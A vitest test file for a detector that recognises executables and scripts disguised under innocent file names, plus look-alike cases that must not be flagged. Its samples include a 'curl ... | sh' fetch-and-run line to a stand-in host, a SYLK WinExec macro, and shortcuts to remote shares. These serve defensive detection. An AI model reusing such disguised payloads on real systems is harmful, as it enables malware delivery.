/**
 * True type decides: every executable family is executable-content whatever its name, and the
 * look-alikes (prose that mentions the markers, a CSV, an ordinary spreadsheet) are not.
 */
import { describe, expect, it } from 'vitest';
import { cfbFile, peFile, wordFib, zip } from './builders.js';
import { analyse } from './helpers.js';

const detect = async (bytes: Buffer, name: string | null) => (await analyse(bytes, name)).detected;
const text = (s: string) => Buffer.from(s.replace(/\r?\n/g, '\r\n'), 'utf8');

describe('programs by their bytes, whatever the name', () => {
  it.each<[string, string, Buffer, string]>([
    ['OneNote section named .pdf', 'minutes.pdf', Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(300)]), 'one'],
    ['OneNote table of contents', 'notes.dat', Buffer.concat([Buffer.from('a12fff43d9ef764c9ee210ea5722765f', 'hex'), Buffer.alloc(300)]), 'one'],
    ['shortcut named .txt', 'readme.txt', Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(100)]), 'lnk'],
    ['compiled help named .pdf', 'guide.pdf', Buffer.concat([Buffer.from('ITSF'), Buffer.from([3, 0, 0, 0, 0x60, 0, 0, 0]), Buffer.alloc(200)]), 'chm'],
    ['thin 32-bit Mach-O, little-endian', 'a.txt', Buffer.concat([Buffer.from('cefaedfe07000000', 'hex'), Buffer.alloc(120)]), 'macho'],
    ['thin 64-bit Mach-O, big-endian', 'a.txt', Buffer.concat([Buffer.from('feedfacf01000007', 'hex'), Buffer.alloc(120)]), 'macho'],
    ['fat 64-bit Mach-O', 'a.txt', Buffer.concat([Buffer.from('cafebabf00000002', 'hex'), Buffer.alloc(120)]), 'macho'],
    ['VHD named .docx', 'report.docx', Buffer.concat([Buffer.alloc(4096, 7), Buffer.from('conectix'), Buffer.alloc(504)]), 'vhd'],
    ['UDF image', 'photos.zip', (() => { const b = Buffer.alloc(0xa000); b.write('NSR02', 0x8801, 'latin1'); return b; })(), 'iso'],
    ['DMG by its trailer', 'report.pdf', Buffer.concat([Buffer.alloc(2048, 3), Buffer.from('koly'), Buffer.alloc(508)]), 'dmg'],
  ])('%s', async (_what, name, bytes, ext) => {
    expect(await detect(bytes, name)).toMatchObject({ family: 'executable', ext });
  });

  it('counts an MSI named .doc as an installer', async () => {
    const msi = cfbFile({ '\u0005SummaryInformation': Buffer.alloc(64) }, '84100c000000000000c0000000000046');
    expect(await detect(msi, 'contract.doc')).toMatchObject({ family: 'executable', ext: 'msi' });
  });

  it.each<[string, Record<string, string>, string]>([
    ['Java archive', { 'META-INF/MANIFEST.MF': 'Main-Class: A\n', 'A.class': '\xca\xfe' }, 'jar'],
    ['Android app', { 'AndroidManifest.xml': '<x/>', 'classes.dex': 'dex\n035' }, 'apk'],
    ['Windows app package', { 'AppxManifest.xml': '<Package/>', 'app.exe': 'x' }, 'msix'],
  ])('a %s named .zip is a program', async (_what, files, ext) => {
    expect(await detect(await zip(files), 'photos.zip')).toMatchObject({ family: 'executable', ext });
  });

  it('an Excel add-in program (.xll) is a Windows library', async () => {
    expect(await detect(peFile(true), 'budget.xll')).toMatchObject({ family: 'executable', ext: 'dll' });
  });

  it('still reads an ordinary Word 97 file as Word', async () => {
    const doc = cfbFile({ WordDocument: wordFib() });
    expect(await detect(doc, 'contract.doc')).toMatchObject({ family: 'word', ext: 'doc' });
  });
});

describe('programs in text form', () => {
  it.each<[string, string, string]>([
    ['shebang script named .txt', '#!/bin/sh\ncurl http://x.example/a | sh\n', 'sh'],
    ['env shebang', '#!/usr/bin/env python3\nimport os\n', 'sh'],
    ['py launcher shebang', '#!python\nprint(1)\n', 'sh'],
    ['Windows Script File', '<job id="a">\n<script language="JScript">WScript.Echo(1)</script>\n</job>\n', 'wsf'],
    ['Windows Script File in a package', '<?xml version="1.0"?>\n<package><job><script language="VBScript">x</script></job></package>', 'wsf'],
    ['scriptlet', '<?XML version="1.0"?>\n<scriptlet>\n<registration progid="x"/>\n<script language="JScript">a()</script>\n</scriptlet>', 'wsc'],
    ['HTA at the start', '<hta:application id="app" windowstate="minimize">\n<p>Loading</p>', 'hta'],
    ['HTA inside HTML', '<!DOCTYPE html>\n<html><head><title>Pay</title><HTA:APPLICATION ID="x"/></head><body>hi</body></html>', 'hta'],
    ['registry file, version 5 in UTF-8', 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\X]\n"a"="b"\n', 'reg'],
    ['ClickOnce manifest', '<?xml version="1.0" encoding="utf-8"?>\n<asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0">\n<deployment install="true"/>\n</asmv1:assembly>', 'application'],
    ['App Installer file', '<?xml version="1.0"?>\n<AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018" Uri="https://x.example/a.appinstaller"></AppInstaller>', 'appinstaller'],
    ['Internet shortcut to a share', '[InternetShortcut]\nURL=file://198.51.100.7/share/run.exe\nIconIndex=3\n', 'url'],
    ['Explorer command file', '[Shell]\nCommand=2\nIconFile=\\\\198.51.100.7\\x\\a.ico\n', 'scf'],
    ['Excel web query', 'WEB\n1\nhttps://x.example/q.php\n', 'iqy'],
    ['batch file', '@echo off\nstart calc.exe\n', 'bat'],
    ['batch file after remarks', 'rem installer\n:: step one\n@ECHO OFF\ndel x\n', 'bat'],
    ['PowerShell with #Requires', '# Deploy\n#Requires -Version 5\nGet-ChildItem\n', 'ps1'],
    ['PowerShell advanced function', '[CmdletBinding()]\nparam([string]$Path)\nRemove-Item $Path\n', 'ps1'],
    ['PowerShell comment help', '<#\n.SYNOPSIS\n  Cleans up.\n#>\nparam()\n', 'ps1'],
  ])('%s', async (_what, source, ext) => {
    expect(await detect(text(source), 'notes.txt')).toMatchObject({ family: 'executable', ext, basis: 'text' });
  });

  it('a SYLK sheet whose formula calls EXEC has macros; a plain one does not', async () => {
    const macro = await detect(text('ID;P\nC;Y1;X1;K0;ECALL("Kernel32","WinExec","JCJ","calc",0)\nE\n'), 'prices.slk');
    expect(macro).toMatchObject({ family: 'excel', ext: 'slk', macros: true });
    const plain = await detect(text('ID;PWXL\nC;Y1;X1;K"Price"\nC;Y2;X1;K12\nE\n'), 'prices.slk');
    expect(plain).toMatchObject({ family: 'excel', ext: 'slk', macros: false });
  });
});

describe('look-alikes stay what they are', () => {
  it.each<[string, string]>([
    ['prose mentioning a shebang', 'To run it, start the file with #!/bin/sh and make it executable.\n'],
    ['a CSV', 'name,amount,date\nAlex,12.50,2024-01-02\nPriya,#!,2024-01-03\n'],
    ['prose about HTA', 'The attacker sent an HTA file: it contains <hta:application> and script.\n'],
    ['a hash-commented config', '# settings\n[main]\nurl=https://intranet.example/\n'],
    ['notes about PowerShell', 'We discussed #Requires -Version 5 in PowerShell today, and [CmdletBinding()].\n'],
    ['an echo in prose', 'Type @echo off at the top of the script, said Sam.\n'],
    ['an INI with a Shell section later', '[General]\nName=x\n[Shell]\nCommand=2\n'],
    ['a web page address list', 'WEB\nhttps://intranet.example/\n'],
    ['an XML job description', '<?xml version="1.0"?>\n<job><title>Clerk</title><salary>20000</salary></job>\n'],
    ['MZ in text', 'MZ is the start of this note, and nothing else. Just words.\n'],
  ])('%s', async (_what, source) => {
    expect((await detect(text(source), 'notes.txt')).family).not.toBe('executable');
  });
});

describe('the text tests stay linear on hostile text', () => {
  it.each<[string, string]>([
    ['a remark line of blanks', `rem ${' '.repeat(8000)}x`],
    ['a bracket section of blanks', `[Shell]\n${' \n'.repeat(4000)}`],
    ['an unclosed comment before a job', `<!--${'<!--'.repeat(2000)}`],
    ['hash lines', '#\n'.repeat(4000)],
  ])('%s', async (_what, source) => {
    const started = Date.now();
    expect((await detect(Buffer.from(source), 'x.txt')).family).not.toBe('executable');
    expect(Date.now() - started).toBeLessThan(500);
  });
});
